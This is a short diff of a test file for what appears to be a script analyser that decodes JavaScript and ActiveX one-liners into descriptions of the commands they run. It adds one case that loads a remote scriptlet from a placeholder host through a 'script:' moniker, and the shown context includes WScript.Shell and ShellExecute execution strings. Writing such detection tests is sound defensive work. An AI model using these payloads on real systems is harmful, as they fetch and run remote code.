@@ -145,6 +145,7 @@ check("javascript", [
     "runs scriptlet https://h/a.sct",
   ],
   ["with(new ActiveXObject('WScript.Shell')){Run('calc.exe')}", "line: calc.exe"],
+  ['javascript:GetObject("script:https://h/a.sct?q=%20x")', "runs scriptlet https://h/a.sct?q= x"],
   ["javascript:new%20ActiveXObject(%22WScript.Shell%22).Run(%22calc%22)", "line: calc"],
   ['new ActiveXObject("Shell.Application").ShellExecute("a b.exe", "-c d", "", "open", 0)', 'line: "a b.exe" -c d'],
   ['GetObject("new:13709620-C279-11CE-A49E-444553540000").ShellExecute("calc")', "run: calc"],
